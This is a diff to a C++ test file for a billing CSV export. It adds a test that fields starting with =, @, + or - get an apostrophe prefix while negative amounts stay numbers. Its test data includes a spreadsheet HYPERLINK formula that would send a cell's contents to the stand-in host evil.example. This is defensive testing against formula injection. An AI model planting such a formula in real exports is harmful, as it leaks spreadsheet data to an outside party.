@@ -102,10 +102,42 @@ TEST_CASE("csv: BOM, CRLF records, RFC 4180 quoting, Japanese round trip", "[bil
   CHECK(total);
   CHECK(held);
   CHECK(open);
-  CHECK(bl::csv_field("plain") == "plain");
-  CHECK(bl::csv_field("a,b") == "\"a,b\"");
-  CHECK(bl::csv_field("say \"hi\"") == "\"say \"\"hi\"\"\"");
-  CHECK(bl::csv_field("two\r\nlines") == "\"two\r\nlines\"");
+}
+
+TEST_CASE("csv: text that would start a formula is neutralised, amounts stay numbers",
+          "[billing][csv]") {
+  auto st = sample();
+  st.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+  st.plan = "@plan";
+  st.lines[1].item = "-acrylic";
+  st.note = "+note";
+  const std::string csv = bl::to_csv(st);
+  CHECK(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"") !=
+        std::string::npos);
+  const auto rows = parse_csv(std::string_view{csv}.substr(bl::kUtf8Bom.size()));
+  CHECK(rows[1][1] == "'" + st.name);
+  CHECK(rows[1][3] == "'@plan");
+  CHECK(rows[5][5] == "'-acrylic");
+  CHECK(rows.back() == std::vector<std::string>{"note", "'+note"});
+  const std::string summary = bl::summary_csv({st});
+  const auto srows = parse_csv(std::string_view{summary}.substr(bl::kUtf8Bom.size()));
+  REQUIRE(srows.size() == 2);
+  CHECK(srows[1][1] == "'" + st.name);
+  CHECK(srows[1][3] == "'@plan");
+  CHECK(srows[1].back() == "'+note");
+
+  // A negative amount is a number cell: written bare, never prefixed.
+  st.lines[0].discount = -50;
+  st.total = -1234;
+  const auto neg = parse_csv(std::string_view{bl::to_csv(st)}.substr(bl::kUtf8Bom.size()));
+  CHECK(neg[4][22] == "-50");
+  bool total = false;
+  for (const auto& row : neg) {
+    if (row[0] == "total") total = row[2] == "-1234";
+  }
+  CHECK(total);
+  CHECK(parse_csv(std::string_view{bl::summary_csv({st})}.substr(bl::kUtf8Bom.size()))[1][8] ==
+        "-1234");
 }
 
 TEST_CASE("json: ordered keys, UTF-8 kept, explanations present", "[billing][json]") {
